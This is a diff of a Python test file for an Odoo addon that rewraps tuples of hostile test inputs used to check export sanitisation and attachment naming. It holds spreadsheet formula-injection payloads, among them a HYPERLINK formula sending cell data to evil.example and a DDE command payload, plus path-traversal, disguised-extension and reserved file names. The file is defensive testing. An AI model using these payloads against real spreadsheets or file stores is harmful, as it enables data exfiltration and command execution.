@@ -23,8 +23,8 @@ from ..report import evidence_zip
 from .test_reports import ReportCase
 
 _PDF = 'odoo.addons.qualiopi.report.ir_actions_report'
-_HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '=cmd|\' /C calc\'!A0',
-            'http://evil.example/a', '{=1+1}')
+_HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1',
+            '=cmd|\' /C calc\'!A0', 'http://evil.example/a', '{=1+1}')
 
 
 def pdf_text(content):
@@ -192,8 +192,9 @@ class TestEvidenceFile(EvidenceFileCase):
 
     def test_names_and_duplicates(self):
         """No name leaves its folder or breaks a system; the same content is stored once (G9, F4)."""
-        hostile = ('../../../../etc/evil.sh', '..\\..\\evil.bat', 'C:\\con', 'NUL.txt', 'a\u202egpj.exe', 'a\nb\x01c.txt',
-                   'é' * 300 + '.pdf', '<>:"|?*.txt', '.htaccess', '   ', 'de\u0301ja\u0300.pdf', 'x.TXT', 'X.txt')
+        hostile = ('../../../../etc/evil.sh', '..\\..\\evil.bat', 'C:\\con', 'a\u202egpj.exe', 'a\nb\x01.txt',
+                   'é' * 300 + '.pdf', '<>:"|?*.txt', '.htaccess', '   ', 'de\u0301ja\u0300.pdf', 'NUL.txt', 'x.TXT',
+                   'X.txt')
         for number, name in enumerate(hostile):
             self._attach(self.complaint, name, b'content %d' % number)
         for record in (self.complaint, self.difficulty):
